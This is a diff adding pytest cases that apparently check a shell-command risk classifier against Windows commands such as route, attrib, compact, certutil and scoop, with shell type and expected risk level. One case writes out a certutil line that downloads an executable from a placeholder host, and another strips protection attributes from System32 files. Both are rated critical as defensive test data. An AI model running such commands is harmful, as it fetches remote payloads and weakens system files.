@@ -259,3 +259,25 @@ def test_file_server_after_a_cd_is_judged_the_same_every_run() -> None:
 )
 def test_listing_verbs_and_their_neighbours(command: str, expected: int) -> None:
     assert _level(command) == expected
+
+
+@pytest.mark.parametrize(
+    "command,shell,expected",
+    [
+        ("route print", "cmd", S),
+        ("route add 0.0.0.0 mask 0.0.0.0 10.0.0.1", "cmd", M),
+        ("attrib C:\\*.*", "cmd", S),
+        ("attrib C:\\*.*", "powershell", S),
+        ("attrib +h secret.txt", "cmd", M),
+        ("attrib -r -s -h C:\\Windows\\System32\\*", "cmd", C),
+        ("compact /q", "cmd", S),
+        ("compact /c /s *.log", "cmd", M),
+        ("certutil -verify cert.cer", "cmd", S),
+        ("certutil -verify -urlfetch cert.cer", "cmd", M),
+        ("certutil -verifyctl -f -split http://x.example/p.exe", "cmd", C),
+        ("scoop status", "powershell", S),
+        ("scoop install git", "powershell", M),
+    ],
+)
+def test_windows_listings_and_their_neighbours(command: str, shell: str, expected: int) -> None:
+    assert _level(command, shell) == expected
